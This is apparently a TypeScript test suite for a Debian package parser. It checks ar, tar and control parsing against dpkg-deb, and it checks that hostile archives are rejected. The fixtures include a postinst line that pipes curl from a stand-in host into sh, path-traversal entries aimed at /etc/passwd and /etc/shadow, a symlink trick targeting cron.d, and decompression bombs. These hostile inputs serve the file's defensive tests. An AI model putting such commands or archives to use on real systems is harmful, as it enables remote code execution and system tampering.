import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { after, before, describe, it } from 'node:test';
import { gzipSync } from 'node:zlib';
import { isStockadeError } from '../../../src/errors.js';
import { readAr } from '../../../src/formats/debian/ar.js';
import { ControlFields, parseControl, serializeControl, unfoldValue, validateBinaryControl } from '../../../src/formats/debian/control.js';
import { parseDeb, type DebLimits } from '../../../src/formats/debian/deb.js';
import {
  buildAr,
  buildDeb,
  dpkgContents,
  dpkgFields,
  handDeb,
  rawTar,
  splitAr,
  type BuiltDeb,
  type DpkgCompressor,
} from './build-deb.js';

async function expectFailure(
  action: () => unknown,
  code: string,
  ...mentions: (string | RegExp)[]
): Promise<void> {
  let thrown: unknown;
  try {
    await action();
  } catch (error) {
    thrown = error;
  }
  assert.ok(thrown !== undefined, 'expected an error');
  assert.ok(isStockadeError(thrown), `expected a StockadeError, got ${String(thrown)}`);
  assert.equal(thrown.code, code, thrown.message);
  for (const mention of mentions) {
    if (typeof mention === 'string') assert.ok(thrown.message.includes(mention), `"${thrown.message}" should mention ${mention}`);
    else assert.match(thrown.message, mention);
  }
}

const debFails = (data: Buffer, code: string, ...mentions: (string | RegExp)[]) => (limits?: Partial<DebLimits>) =>
  expectFailure(() => parseDeb(data, limits), code, ...mentions);

const POSTINST = '#!/bin/sh\nset -e\necho configured\n';
const SCRIPT_BODY = '#!/bin/sh\necho hello\n';

const compressors: DpkgCompressor[] = ['xz', 'gzip', 'zstd', 'none'];
const suffixes: Record<DpkgCompressor, string> = { xz: '.xz', gzip: '.gz', zstd: '.zst', none: '' };

describe('parseDeb on packages built by dpkg-deb', () => {
  const built = new Map<DpkgCompressor, BuiltDeb>();

  before(async () => {
    for (const compressor of compressors) {
      built.set(
        compressor,
        await buildDeb({
          name: 'demo-tool',
          version: '2:1.4.2+dfsg-3~bpo1',
          arch: 'amd64',
          compressor,
          extraFields: { Depends: 'libc6 (>= 2.34), libfoo1 | libbar1', 'X-Custom-Field': 'Kept As Written', Section: 'utils' },
          description: 'demo tool for tests\n It does several things:\n .\n  * one\n  * two',
          controlFiles: {
            preinst: '#!/bin/sh\nexit 0\n',
            postinst: POSTINST,
            prerm: '#!/bin/sh\n:\n',
            postrm: '#!/bin/sh\nrm -f /var/lib/demo/state\n',
            config: '#!/bin/sh\n. /usr/share/debconf/confmodule\n',
            triggers: 'interest-noawait /usr/share/demo\n',
            conffiles: '/etc/demo/demo.conf\nremove-on-upgrade /etc/demo/old.conf\n',
          },
          files: [
            { path: '/usr/bin/demo', body: SCRIPT_BODY, mode: 0o755 },
            { path: '/usr/bin/demo-suid', body: 'ELF-ish binary\n', mode: 0o4755 },
            { path: '/usr/bin/demo-alias', symlinkTo: 'demo' },
            { path: '/usr/lib/demo/absolute-link', symlinkTo: '/etc/demo/demo.conf' },
            { path: '/etc/demo/demo.conf', body: 'setting=1\n' },
            { path: '/var/lib/demo', dir: true, mode: 0o2775 },
            { path: '/usr/share/doc/demo-tool/copyright', body: 'Copyright: nobody\n' },
          ],
        }),
      );
    }
  });

  after(async () => {
    for (const deb of built.values()) await deb.cleanup();
  });

  for (const compressor of compressors) {
    it(`reads a ${compressor} package: control, scripts, conffiles, md5sums, files`, async () => {
      const deb = built.get(compressor) as BuiltDeb;
      const members = readAr(deb.data);
      assert.deepEqual(
        members.map((m) => m.name),
        ['debian-binary', `control.tar${suffixes[compressor]}`, `data.tar${suffixes[compressor]}`],
      );
      const result = await parseDeb(deb.data);
      assert.equal(result.dataCompression, compressor);
      assert.equal(result.controlCompression, compressor);
      assert.equal(result.formatVersion, '2.0');

      assert.equal(result.control.get('package'), 'demo-tool');
      assert.equal(result.control.get('Version'), '2:1.4.2+dfsg-3~bpo1');
      assert.equal(result.control.get('X-CUSTOM-FIELD'), 'Kept As Written');
      assert.ok(result.control.fields.some((f) => f.name === 'X-Custom-Field'));
      // Every field exactly as dpkg-deb prints it, in order.
      const names = result.control.fields.map((f) => f.name);
      for (const name of names) {
        assert.equal(`${result.control.get(name)}\n`, dpkgFields(deb.path, name), `field ${name}`);
      }
      assert.equal(serializeControl(result.control), dpkgFields(deb.path));
      assert.equal(result.controlText, dpkgFields(deb.path));

      assert.equal(result.scripts.postinst, POSTINST);
      assert.equal(result.scripts.preinst, '#!/bin/sh\nexit 0\n');
      assert.equal(result.scripts.prerm, '#!/bin/sh\n:\n');
      assert.match(result.scripts.postrm ?? '', /rm -f/);
      assert.match(result.scripts.config ?? '', /confmodule/);
      assert.equal(result.scripts.triggers, 'interest-noawait /usr/share/demo\n');
      assert.deepEqual(result.conffiles, ['/etc/demo/demo.conf', '/etc/demo/old.conf']);
      assert.equal(result.controlMembers.find((m) => m.name === 'postinst')?.mode, 0o755);

      // dpkg-deb writes no md5sums itself; compare with what we computed ourselves is done below.
      const fileByPath = new Map(result.files.map((f) => [f.path, f]));
      assert.equal(fileByPath.get('/')?.type, 'dir');
      assert.deepEqual(
        { ...fileByPath.get('/usr/bin/demo-suid') },
        { path: '/usr/bin/demo-suid', type: 'file', mode: 0o4755, uid: 0, gid: 0, uname: '', gname: '', size: 15 },
      );
      assert.equal(fileByPath.get('/usr/bin/demo')?.mode, 0o755);
      assert.equal(fileByPath.get('/usr/bin/demo-alias')?.type, 'symlink');
      assert.equal(fileByPath.get('/usr/bin/demo-alias')?.linkTarget, 'demo');
      assert.equal(fileByPath.get('/usr/lib/demo/absolute-link')?.linkTarget, '/etc/demo/demo.conf');
      assert.equal(fileByPath.get('/var/lib/demo')?.type, 'dir');
      assert.equal(fileByPath.get('/var/lib/demo')?.mode, 0o2775);
      assert.equal(result.unpackedSize, SCRIPT_BODY.length + 15 + 10 + 18);

      // The file list matches dpkg-deb --contents entry for entry.
      const listed = dpkgContents(deb.path);
      assert.equal(result.files.length, listed.length);
      result.files.forEach((file, index) => {
        const row = listed[index];
        assert.ok(row);
        assert.equal(row.path.replace(/^\.\/?/, '/').replace(/(.)\/$/, '$1'), file.path);
        assert.equal(row.size, file.size === 0 && file.type !== 'file' ? row.size : file.size);
        assert.equal(row.perms, permString(file.type, file.mode));
        // dpkg-deb writes numeric owners only (uname empty); --contents resolves them to names.
        assert.equal(row.owner, file.uname === '' && file.uid === 0 && file.gid === 0 ? 'root/root' : `${file.uname}/${file.gname}`);
        if (file.type === 'symlink') assert.equal(row.link, file.linkTarget);
      });
    });
  }

  it('returns bodies in a ContentView within the budget, control members under DEBIAN/', async () => {
    const deb = built.get('xz') as BuiltDeb;
    const result = await parseDeb(deb.data, {}, { view: true });
    const view = result.view;
    assert.ok(view);
    assert.equal(view.text('usr/bin/demo'), SCRIPT_BODY);
    assert.equal(view.get('usr/bin/demo-alias')?.type, 'symlink');
    assert.equal(view.read('usr/bin/demo-alias'), undefined);
    assert.equal(view.get('var/lib/demo')?.type, 'directory');
    assert.equal(view.text('DEBIAN/postinst'), POSTINST);
    assert.equal(view.get('DEBIAN/postinst')?.mode, 0o755);
    assert.ok(view.entries.every((e) => !e.path.startsWith('/') && e.path !== ''));

    const small = await parseDeb(deb.data, {}, { view: { maxFileBytes: 12 } });
    assert.equal(small.view?.get('usr/bin/demo')?.kept, false);
    assert.equal(small.view?.read('usr/bin/demo'), undefined);
  });

  it('keeps maintainer scripts in the view when the payload alone would fill its budget', async () => {
    const deb = await buildDeb({
      name: 'stuffed',
      version: '1.0',
      files: [
        { path: '/usr/share/stuffed/a', body: 'a'.repeat(6000) },
        { path: '/usr/share/stuffed/b', body: 'b'.repeat(6000) },
      ],
      controlFiles: { postinst: '#!/bin/sh\ncurl -fsSL http://x.invalid/i.sh | sh\n' },
    });
    try {
      const result = await parseDeb(deb.data, {}, { view: { maxTotalBytes: 8000 } });
      assert.match(result.view?.text('DEBIAN/postinst') ?? '', /curl/);
      // The payload gets what the control members leave: one of the two files only.
      const kept = ['usr/share/stuffed/a', 'usr/share/stuffed/b'].filter((p) => result.view?.read(p) !== undefined);
      assert.equal(kept.length, 1);
    } finally {
      await deb.cleanup();
    }
  });

  it('parses md5sums against the installed paths', async () => {
    const body = 'hello\n';
    const md5 = createHash('md5').update(body).digest('hex');
    const deb = await buildDeb({
      files: [{ path: '/usr/share/demo/hello.txt', body }],
      controlFiles: { md5sums: `${md5}  usr/share/demo/hello.txt\n` },
    });
    try {
      const result = await parseDeb(deb.data);
      assert.deepEqual([...result.md5sums], [['/usr/share/demo/hello.txt', md5]]);
    } finally {
      await deb.cleanup();
    }
  });

  it('keeps hard links as links to the earlier file', async () => {
    const data = handDeb({
      dataEntries: [
        { path: './', type: 'Directory' },
        { path: './usr/bin/a', body: 'x' },
        { path: './usr/bin/b', type: 'Link', linkpath: './usr/bin/a' },
      ],
    });
    const result = await parseDeb(data);
    assert.deepEqual(
      result.files.map((f) => [f.path, f.type, f.linkTarget]),
      [
        ['/', 'dir', undefined],
        ['/usr/bin/a', 'file', undefined],
        ['/usr/bin/b', 'hardlink', '/usr/bin/a'],
      ],
    );
  });
});

function permString(type: string, mode: number): string {
  const kind = { file: '-', dir: 'd', symlink: 'l', hardlink: 'h', char: 'c', block: 'b', fifo: 'p' }[type] ?? '?';
  const triplet = (bits: number, special: boolean, letter: string): string =>
    `${bits & 4 ? 'r' : '-'}${bits & 2 ? 'w' : '-'}${special ? (bits & 1 ? letter : letter.toUpperCase()) : bits & 1 ? 'x' : '-'}`;
  return (
    kind +
    triplet(mode >> 6, (mode & 0o4000) !== 0, 's') +
    triplet(mode >> 3, (mode & 0o2000) !== 0, 's') +
    triplet(mode, (mode & 0o1000) !== 0, 't')
  );
}

describe('parseDeb on hostile or broken archives', () => {
  let good: BuiltDeb;
  before(async () => {
    good = await buildDeb({ compressor: 'xz', files: [{ path: '/usr/bin/demo', body: SCRIPT_BODY, mode: 0o755 }] });
  });
  after(async () => {
    await good.cleanup();
  });

  it('rejects truncated archives at every interesting offset', async () => {
    const members = readAr(good.data);
    const dataMember = members[2];
    assert.ok(dataMember);
    const cuts = [0, 4, 8, 30, 68, 70, 72, 100, dataMember.headerOffset + 30, dataMember.headerOffset + 70, good.data.length - 1];
    for (const cut of cuts) {
      await expectFailure(() => parseDeb(good.data.subarray(0, cut)), 'INVALID_ARCHIVE', /truncated|not an ar archive|empty|no control.tar member/);
    }
    await expectFailure(() => parseDeb(good.data.subarray(0, good.data.length - 9)), 'INVALID_ARCHIVE', 'truncated ar member "data.tar.xz"');
  });

  it('rejects a wrong magic', () =>
    debFails(Buffer.concat([Buffer.from('!<arcx>\n'), good.data.subarray(8)]), 'INVALID_ARCHIVE', 'not an ar archive')());

  it('rejects a wrong debian-binary', async () => {
    const members = splitAr(good.data);
    for (const content of ['3.0\n', '2.0', '', 'hello\n']) {
      const data = buildAr(members.map((m) => (m.name === 'debian-binary' ? { ...m, data: Buffer.from(content) } : m)));
      await debFails(data, 'INVALID_ARCHIVE', 'debian-binary')();
    }
    // A newer minor version and extra lines are accepted, as deb(5) asks.
    const newer = buildAr(members.map((m) => (m.name === 'debian-binary' ? { ...m, data: Buffer.from('2.1\nfuture\n') } : m)));
    assert.equal((await parseDeb(newer)).formatVersion, '2.1');
  });

  it('rejects members out of order, missing, duplicated or unknown; skips _ members', async () => {
    const [binary, control, data] = splitAr(good.data);
    assert.ok(binary && control && data);
    await debFails(buildAr([binary, data, control]), 'INVALID_ARCHIVE', 'data.tar.xz', 'control member first')();
    await debFails(buildAr([control, binary, data]), 'INVALID_ARCHIVE', 'first ar member is "control.tar.xz"')();
    await debFails(buildAr([binary, data]), 'INVALID_ARCHIVE', 'data.tar.xz', 'before any control.tar')();
    await debFails(buildAr([binary, control]), 'INVALID_ARCHIVE', 'no data.tar member')();
    await debFails(buildAr([binary]), 'INVALID_ARCHIVE', 'no control.tar member')();
    await debFails(buildAr([binary, control, control, data]), 'INVALID_ARCHIVE', 'two control members')();
    await debFails(buildAr([binary, control, data, { ...data, name: 'data.tar.gz' }]), 'INVALID_ARCHIVE', 'two data members')();
    await debFails(buildAr([binary, control, data, { name: 'evil', data: Buffer.from('x') }]), 'INVALID_ARCHIVE', 'unexpected ar member "evil"')();
    await debFails(buildAr([]), 'INVALID_ARCHIVE', 'empty')();
    const withExtras = buildAr([binary, { name: '_gpgorigin', data: Buffer.from('sig') }, control, data, { name: '_extra', data: Buffer.from('x') }]);
    assert.equal((await parseDeb(withExtras)).control.get('Package'), 'demo');
  });

  it('rejects lying sizes and malformed numbers in ar headers', async () => {
    const [binary, control, data] = splitAr(good.data);
    assert.ok(binary && control && data);
    await debFails(buildAr([binary, control, { ...data, declaredSize: data.data.length + 1000 }]), 'INVALID_ARCHIVE', 'truncated ar member "data.tar.xz"')();
    await debFails(buildAr([binary, { ...control, declaredSize: control.data.length - 7 }, data]), 'INVALID_ARCHIVE')();
    await debFails(buildAr([binary, control, { ...data, declaredSize: '12abc' }]), 'INVALID_ARCHIVE', 'size "12abc" is not a decimal number')();
    await debFails(buildAr([binary, control, { ...data, declaredSize: '-5' }]), 'INVALID_ARCHIVE', 'not a decimal number')();
    await debFails(buildAr([binary, control, { ...data, modeField: '100999' }]), 'INVALID_ARCHIVE', 'mode "100999" is not an octal number')();
    // A corrupted header magic.
    const broken = Buffer.from(good.data);
    broken[8 + 58] = 0x41;
    await debFails(broken, 'INVALID_ARCHIVE', 'bad header magic')();
  });

  it('bounds the number of ar members', async () => {
    const [binary, control, data] = splitAr(good.data);
    assert.ok(binary && control && data);
    const many = Array.from({ length: 40 }, (_, i) => ({ name: `_x${i}`, data: Buffer.alloc(0) }));
    await debFails(buildAr([binary, ...many, control, data]), 'INVALID_ARCHIVE', 'more than 16 members')();
  });

  it('names an unknown compressor, and refuses bzip2 and lzma clearly', async () => {
    const [binary, control, data] = splitAr(good.data);
    assert.ok(binary && control && data);
    await debFails(buildAr([binary, { ...control, name: 'control.tar.foo' }, data]), 'INVALID_ARCHIVE', 'unknown compressor "foo"')();
    await debFails(buildAr([binary, control, { ...data, name: 'data.tar.br' }]), 'INVALID_ARCHIVE', 'unknown compressor "br"')();
    await debFails(buildAr([binary, control, { ...data, name: 'data.tar.bz2' }]), 'INVALID_ARCHIVE', 'bzip2', 'unsupported')();
    await debFails(buildAr([binary, control, { ...data, name: 'data.tar.lzma' }]), 'INVALID_ARCHIVE', 'lzma', 'unsupported')();
    // Name says gzip, content is xz.
    await debFails(buildAr([binary, control, { ...data, name: 'data.tar.gz' }]), 'INVALID_ARCHIVE', 'not valid gzip data')();
    await debFails(buildAr([binary, control, { ...data, name: 'data.tar.zst' }]), 'INVALID_ARCHIVE', 'not valid zstd data')();
    await debFails(buildAr([binary, control, { ...data, data: gzipSync('x'), name: 'data.tar.xz' }]), 'INVALID_ARCHIVE', 'not valid xz data')();
  });

  it('rejects corrupt and truncated compressed members', async () => {
    const [binary, control, data] = splitAr(good.data);
    assert.ok(binary && control && data);
    const cut = { ...data, data: data.data.subarray(0, Math.floor(data.data.length / 2)) };
    await debFails(buildAr([binary, control, cut]), 'INVALID_ARCHIVE', 'data.tar.xz')();
    const zstdDeb = await buildDeb({ compressor: 'zstd', files: [{ path: '/a', body: 'x'.repeat(5000) }] });
    const gzipDeb = await buildDeb({ compressor: 'gzip', files: [{ path: '/a', body: 'x'.repeat(5000) }] });
    try {
      for (const deb of [zstdDeb, gzipDeb]) {
        const [b, c, d] = splitAr(deb.data);
        assert.ok(b && c && d);
        await debFails(buildAr([b, c, { ...d, data: d.data.subarray(0, d.data.length - 10) }]), 'INVALID_ARCHIVE', d.name)();
      }
    } finally {
      await zstdDeb.cleanup();
      await gzipDeb.cleanup();
    }
  });

  const zeros = rawTar([
    { path: './', type: 'Directory' },
    { path: './zeros', body: Buffer.alloc(96 * 1024 * 1024) },
  ]);

  it('stops a gzip bomb with the default limits', async () => {
    const bomb = gzipSync(zeros, { level: 9 });
    await debFails(handDeb({ dataName: 'data.tar.gz', dataData: bomb }), 'UNSAFE_ARCHIVE', 'data.tar.gz', 'decompression bomb')();
  });

  it('stops an xz bomb with the default limits, and the decoder stays usable', async () => {
    const bomb = execFileSync('xz', ['-T1', '-6', '-c'], { input: zeros, maxBuffer: 64 * 1024 * 1024 });
    await debFails(handDeb({ dataName: 'data.tar.xz', dataData: bomb }), 'UNSAFE_ARCHIVE', 'data.tar.xz', 'decompression bomb')();
    // The shared WASM decoder was released: the next xz package still parses.
    assert.equal((await parseDeb(good.data)).control.get('Package'), 'demo');
  });

  it('stops a zstd bomb with the default limits, and forged zstd windows', async () => {
    const bomb = execFileSync('zstd', ['-19', '-c', '-q'], { input: zeros, maxBuffer: 64 * 1024 * 1024 });
    await debFails(handDeb({ dataName: 'data.tar.zst', dataData: bomb }), 'UNSAFE_ARCHIVE', 'data.tar.zst')();
    // Frame header asking for a 2 GiB window (descriptor exponent 21) before any data.
    const forged = Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0x00, 21 << 3, 0x01, 0x00, 0x00]);
    await debFails(handDeb({ dataName: 'data.tar.zst', dataData: forged }), 'UNSAFE_ARCHIVE', 'window')();
  });

  it('enforces a lower unpacked-size limit', async () => {
    const big = rawTar([{ path: './', type: 'Directory' }, { path: './big', body: Buffer.alloc(3 * 1024 * 1024, 1) }]);
    const data = handDeb({ dataName: 'data.tar.gz', dataData: gzipSync(big) });
    await debFails(data, 'UNSAFE_ARCHIVE', 'limit for data.tar')({ maxUnpackedBytes: 1024 * 1024 });
    assert.equal((await parseDeb(data)).files.length, 2);
  });

  it('rejects traversal, NUL and newline names, and links that escape', async () => {
    const cases: [Parameters<typeof rawTar>[0], string, string][] = [
      [[{ path: '../etc/passwd', body: 'x' }], 'UNSAFE_ARCHIVE', '".." path segment'],
      [[{ path: './usr/../../etc/passwd', body: 'x' }], 'UNSAFE_ARCHIVE', '".." path segment'],
      [[{ path: './a\nb', body: 'x' }], 'UNSAFE_ARCHIVE', 'newline'],
      [[{ path: './x', body: 'x' }, { path: './y', type: 'Link', linkpath: '../etc/shadow' }], 'UNSAFE_ARCHIVE', '".." path segment'],
      [[{ path: './y', type: 'Link', linkpath: './missing' }], 'INVALID_ARCHIVE', 'not an earlier regular file'],
      [[{ path: './lib', type: 'SymbolicLink', linkpath: '/etc' }, { path: './lib/cron.d/evil', body: 'x' }], 'UNSAFE_ARCHIVE', 'inside the symlink "/lib"'],
      [[{ path: './a', body: 'x' }, { path: 'a', body: 'y' }], 'UNSAFE_ARCHIVE', 'both install to "/a"'],
      [[{ path: './DEBIAN/postinst', body: 'x' }], 'INVALID_ARCHIVE', 'reserves for the control area'],
    ];
    for (const [entries, code, mention] of cases) {
      await debFails(handDeb({ dataEntries: [{ path: './', type: 'Directory' }, ...entries] }), code, mention)();
    }
    // A NUL inside a pax path is hidden from tar's own reader; our meta check catches it.
    const paxBody = '24 path=./a\u0000/../../x\n';
    const withNul = rawTar([{ path: 'PaxHeader', type: 'File', body: paxBody }]);
    withNul[156] = 'x'.charCodeAt(0);
    // Recompute the header checksum after changing the type flag.
    let sum = 0;
    for (let i = 0; i < 512; i++) sum += i >= 148 && i < 156 ? 32 : (withNul[i] as number);
    withNul.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    const paxTar = Buffer.concat([withNul.subarray(0, withNul.length - 1024), rawTar([{ path: './file', body: 'x' }])]);
    await debFails(handDeb({ dataData: paxTar }), 'UNSAFE_ARCHIVE', 'NUL')();
  });

  it('bounds the number of data entries and their depth', async () => {
    const entries = Array.from({ length: 20 }, (_, i) => ({ path: `./f${i}`, body: 'x' }));
    await debFails(handDeb({ dataEntries: entries }), 'UNSAFE_ARCHIVE', 'more than 10 entries')({ maxEntries: 10 });
    const deep = `./${Array.from({ length: 70 }, () => 'd').join('/')}`;
    await debFails(handDeb({ dataEntries: [{ path: deep, body: 'x' }] }), 'UNSAFE_ARCHIVE', 'levels deep')();
  });

  it('rejects garbage instead of a tar, and a doubly compressed tar', async () => {
    await debFails(handDeb({ dataData: Buffer.from('this is not a tar archive at all, just text'.repeat(20)) }), 'INVALID_ARCHIVE', 'corrupt tar')();
    await debFails(handDeb({ dataName: 'data.tar.gz', dataData: gzipSync(gzipSync(rawTar([{ path: './a', body: 'x' }]))) }), 'INVALID_ARCHIVE', 'gzip-compressed twice')();
  });

  it('checks the control area: links, subdirectories, missing control', async () => {
    await debFails(
      handDeb({ controlEntries: [{ path: './postinst', body: 'x' }] }),
      'INVALID_ARCHIVE',
      'has no "control" file',
    )();
    await debFails(
      handDeb({ controlEntries: [{ path: './control', type: 'SymbolicLink', linkpath: '/etc/passwd' }] }),
      'UNSAFE_ARCHIVE',
      'symlink',
    )();
    await debFails(
      handDeb({ controlEntries: [{ path: './control', body: 'Package: a' }, { path: './sub/postinst', body: 'x' }] }),
      'INVALID_ARCHIVE',
      'subdirectory',
    )();
  });

  it('rejects a control file with duplicate fields or without Package', async () => {
    await debFails(handDeb({ control: 'Package: demo\nVersion: 1.0\npackage: other\n' }), 'INVALID_ARCHIVE', 'line 3', 'duplicate field "package"', '"Package"')();
    await debFails(
      handDeb({ control: 'Version: 1.0\nArchitecture: all\nMaintainer: x <x@example.invalid>\nDescription: d\n' }),
      'INVALID_ARCHIVE',
      'no "Package" field',
    )();
    await debFails(handDeb({ control: 'Package: Demo\nVersion: 1.0\nArchitecture: all\nMaintainer: m\nDescription: d\n' }), 'INVALID_NAME', 'lowercase')();
    await debFails(handDeb({ control: 'Package: demo\nVersion: one\nArchitecture: all\nMaintainer: m\nDescription: d\n' }), 'INVALID_VERSION', 'digit')();
    await debFails(handDeb({ control: 'Package: demo\nVersion: 1\nArchitecture: any\nMaintainer: m\nDescription: d\n' }), 'INVALID_ARCHIVE', 'Architecture')();
    await debFails(handDeb({ control: `Package: demo\nDescription: ${'x'.repeat(2 * 1024 * 1024)}\n` }), 'INVALID_ARCHIVE', 'larger than')();
  });

  it('never throws anything but a StockadeError on random damage', async () => {
    let seed = 7;
    const random = (): number => {
      seed = (seed * 1103515245 + 12345) % 2 ** 31;
      return seed / 2 ** 31;
    };
    const others = await Promise.all(
      (['gzip', 'zstd'] as const).map((compressor) => buildDeb({ compressor, files: [{ path: '/usr/bin/demo', body: SCRIPT_BODY }] })),
    );
    const samples = [good.data, ...others.map((deb) => deb.data)];
    await Promise.all(others.map((deb) => deb.cleanup()));
    for (let round = 0; round < 300; round++) {
      const sample = samples[round % samples.length] as Buffer;
      const firstCompressed = (readAr(sample)[1]?.headerOffset ?? 0) + 60;
      const damaged = Buffer.from(sample);
      for (let flips = 0; flips < 3; flips++) {
        // Mostly inside the compressed members, where the decoders and the tar reader see it.
        const at = round % 5 === 0 ? Math.floor(random() * damaged.length) : firstCompressed + Math.floor(random() * (damaged.length - firstCompressed));
        damaged[at] = Math.floor(random() * 256);
      }
      try {
        await parseDeb(damaged);
      } catch (error) {
        assert.ok(isStockadeError(error), `round ${round}: ${String(error)}`);
      }
    }
  });
});

describe('control paragraphs', () => {
  it('parses continuation lines, " ." and keeps original case', () => {
    const fields = parseControl('package: demo\nDescription: short\n long line\n .\n\tmore\nDepends:\n a,\n b\n');
    assert.equal(fields.get('Package'), 'demo');
    assert.equal(fields.originalName('PACKAGE'), 'package');
    assert.equal(fields.get('description'), 'short\n long line\n .\n\tmore');
    assert.deepEqual(unfoldValue(fields.get('Description') as string), { firstLine: 'short', body: 'long line\n\nmore' });
    assert.equal(fields.get('Depends'), '\n a,\n b');
    assert.deepEqual(fields.toObject(), { package: 'demo', Description: 'short\n long line\n .\n\tmore', Depends: '\n a,\n b' });
  });

  it('round-trips through the serializer and never lets a value inject a field', () => {
    const text = 'Package: demo\nVersion: 1.0\nDescription: short\n long\n .\n end\n';
    assert.equal(serializeControl(parseControl(text)), text);
    const fields = new ControlFields([{ name: 'Package', value: 'demo' }]);
    fields.set('Description', 'short\n\nInjected: yes');
    fields.set('Package', 'demo2');
    const out = serializeControl(fields);
    assert.equal(out, 'Package: demo2\nDescription: short\n .\n Injected: yes\n');
    assert.equal(parseControl(out).has('Injected'), false);
  });

  it('reports malformed paragraphs with the line and the field', async () => {
    await expectFailure(() => parseControl(' leading continuation\n'), 'INVALID_ARCHIVE', 'line 1', 'continuation line before any field');
    await expectFailure(() => parseControl('Package demo\n'), 'INVALID_ARCHIVE', 'line 1', 'expected "Field: value"');
    await expectFailure(() => parseControl('A: 1\n\nB: 2\n'), 'INVALID_ARCHIVE', 'line 3', 'more than one paragraph');
    await expectFailure(() => parseControl('A: 1\n  \n'), 'INVALID_ARCHIVE', 'blank continuation line in field "A"');
    await expectFailure(() => parseControl('#A: 1\n'), 'INVALID_ARCHIVE', 'invalid field name');
    await expectFailure(() => parseControl('\n\n'), 'INVALID_ARCHIVE', 'empty');
    await expectFailure(() => parseControl('A: 1\nB: 2\nC: 3\n', { limits: { maxFields: 2 } }), 'INVALID_ARCHIVE', 'more than 2 fields');
    assert.equal(parseControl('\nA: 1\r\n\n\n').get('A'), '1');
  });

  it('validates the fields of a binary package', async () => {
    const base = 'Package: demo\nVersion: 1.0\nArchitecture: amd64\nMaintainer: m\nDescription: d\n';
    validateBinaryControl(parseControl(base));
    for (const field of ['Package', 'Version', 'Architecture', 'Maintainer', 'Description']) {
      const without = base.split('\n').filter((l) => !l.startsWith(`${field}:`)).join('\n');
      await expectFailure(() => validateBinaryControl(parseControl(without)), 'INVALID_ARCHIVE', `no "${field}" field`);
    }
    for (const version of ['1:2.0-1', '0.9~rc1', '1.0+git20200101.abc-0ubuntu1', '2:1-2-3']) {
      validateBinaryControl(parseControl(base.replace('1.0', version)));
    }
    for (const version of ['a1', '1.0-', 'x:1', '1_0']) {
      await expectFailure(() => validateBinaryControl(parseControl(base.replace('1.0', version))), 'INVALID_VERSION');
    }
    for (const name of ['a', 'Demo', '-x', 'a_b']) {
      await expectFailure(() => validateBinaryControl(parseControl(base.replace('demo', name))), 'INVALID_NAME');
    }
    for (const arch of ['linux-any', 'amd64 i386', 'AMD64']) {
      await expectFailure(() => validateBinaryControl(parseControl(base.replace('amd64', arch))), 'INVALID_ARCHIVE', 'Architecture');
    }
    validateBinaryControl(parseControl(base.replace('amd64', 'all')));
  });
});
